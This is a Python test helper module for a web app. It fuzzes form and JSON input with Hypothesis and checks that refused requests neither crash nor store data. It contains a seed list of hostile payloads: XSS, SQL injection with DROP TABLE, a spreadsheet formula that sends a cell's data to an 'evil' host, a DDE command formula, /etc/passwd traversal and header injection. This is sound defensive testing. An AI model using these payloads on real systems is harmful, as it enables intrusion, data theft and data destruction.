"""Hypothesis strategies for hostile input, and the checks every refused request must pass."""

from __future__ import annotations

from hypothesis import strategies as st
from sqlalchemy import func, select

from assessment.extensions import database
from assessment.persistence import AuditEvent, Base

#: Payloads the review tried by hand, kept as seeds beside the generated text.
KNOWN_PAYLOADS = [
    "",
    " ",
    "   \t ",
    "\x00",
    "a\x00b@example.com",
    "ABC\x00EF",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}",
    "' OR '1'='1",
    "'; DROP TABLE accounts; --",
    '=HYPERLINK("http://evil/?"&A1;"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "../../../../etc/passwd",
    "url(file:///etc/passwd)",
    "\r\nSet-Cookie: x=1",
    "\u202eevil",
    "\U0001d54f" * 300,  # an astral-plane letter
    "x" * 5_000,
    "\n".join(f"r{i}" for i in range(3_000)),
    "9" * 5_000,
    "NaN",
    "Infinity",
    "-1",
    "1e308",
    "#zzzzzz",
]

#: Text a browser can send: any character but lone surrogates (which no form encoding carries).
form_text = st.one_of(
    st.sampled_from(KNOWN_PAYLOADS),
    st.text(st.characters(exclude_categories=("Cs",)), max_size=300),
    st.text(st.sampled_from("\x00\x01\x1b\t\n\r \u00a0=+-@<>\"'&;%/\\"), max_size=40),
)

json_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    form_text,
)
json_values = st.recursive(
    json_scalars,
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(form_text, inner, max_size=4)),
    max_leaves=12,
)

#: Tables a refused request may still write: wrong passwords and codes are counted there.
COUNTED_FAILURES = {"failed_attempts"}


def row_counts(app) -> dict[str, int]:
    """The number of rows in every table but the failure counters (and the audit log's failed sign-ins)."""
    with app.app_context():
        session = database.session
        counts = {
            table.name: session.scalar(select(func.count()).select_from(table))
            for table in Base.metadata.sorted_tables
            if table.name not in COUNTED_FAILURES
        }
        # A wrong password is recorded in the audit log on purpose; any other event is a change.
        refused_sign_ins = AuditEvent.kind == "sign_in_failed"
        counts["audit_events"] = session.scalar(select(func.count()).where(~refused_sign_ins))
        session.close()
        return counts


def assert_handled(response, before: dict[str, int], app) -> None:
    """No server error, no traceback, and nothing stored when the request was refused."""
    body = response.get_data(as_text=True)
    assert response.status_code < 500, (response.status_code, body[:300])
    assert "Traceback" not in body
    if response.status_code >= 400:
        assert row_counts(app) == before, "a refused request stored something"
